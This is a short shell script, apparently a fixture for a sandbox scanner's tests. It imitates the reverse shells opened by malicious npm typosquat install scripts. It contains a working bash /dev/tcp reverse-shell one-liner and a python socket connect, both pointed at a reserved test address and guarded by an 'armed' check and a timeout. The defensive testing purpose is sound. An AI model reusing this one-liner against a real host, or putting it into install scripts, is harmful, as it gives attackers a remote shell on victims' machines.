# Simulates the reverse shells of malicious npm typosquats, whose install
# scripts ran `bash -i >& /dev/tcp/HOST/PORT 0>&1` or a python socket
# one-liner to hand the attacker a shell.
# What this does instead, harmlessly: both are pointed at 203.0.113.5
# (TEST-NET-3). In the sandbox's sinkhole network the connection reaches the
# sandbox's own sinkhole, which sends no command: the shell only prints its
# prompt to it until `timeout` ends it. Offline, each connect fails with
# ENETUNREACH before any shell is started.
[ -f "$(dirname "$0")/armed" ] || { echo "attack-reverse-shell: not armed by scanfarm's tests, doing nothing"; exit 0; }
timeout 5 bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1' </dev/null 2>/dev/null ||
  echo "attack-reverse-shell: bash /dev/tcp shell ended (no route, or timed out)"
timeout 5 python3 -c 'import socket; s = socket.socket(); s.settimeout(3); s.connect(("203.0.113.5", 4445))' 2>/dev/null ||
  echo "attack-reverse-shell: python one-liner ended (no route, or no shell behind it)"
exit 0
